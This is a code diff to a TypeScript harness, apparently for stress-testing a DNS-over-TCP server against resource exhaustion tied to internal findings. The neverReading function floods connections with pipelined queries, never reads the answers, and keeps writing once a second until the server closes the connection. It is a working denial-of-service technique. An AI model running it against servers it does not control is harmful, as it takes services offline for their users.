@@ -70,12 +70,13 @@ async function swarm(t: Target, addresses: string[], slots: number, one: (from: 
 
 /**
  * Pipelines queries (zone names, and a forwarded name with an 8.5 KB answer) and never reads the
- * answers, with a small receive buffer's worth of patience: finding 1 and 2 of issue 12.
+ * answers (issue 12, findings 1 and 2); it keeps writing a batch a second, so it notices being
+ * closed (a write to a reset connection fails) and comes back.
  */
 export async function neverReading(t: Target, addresses: string[], slots: number): Promise<AttackStats> {
   const stats = newStats();
   const batch = Buffer.concat(
-    Array.from({ length: 20_000 }, (_, i) =>
+    Array.from({ length: 2_000 }, (_, i) =>
       framed(dnsQuery(i % 10 === 0 ? 'big.example.org' : 'id.home.example.com', i % 10 === 0 ? 16 : 1, i)),
     ),
   );
@@ -84,8 +85,15 @@ export async function neverReading(t: Target, addresses: string[], slots: number
     if (!s) return;
     s.pause();
     const closed = gone(t, s, stats);
-    s.write(batch);
-    stats.bytesSent += batch.length;
+    let ended = false;
+    void closed.then(() => (ended = true));
+    while (!ended && !t.signal.aborted) {
+      if (s.writableLength < 256 * 1024) {
+        s.write(batch); // past that, our own buffer would be the one to grow
+        stats.bytesSent += batch.length;
+      }
+      await sleep(1000);
+    }
     await closed;
   });
   return stats;
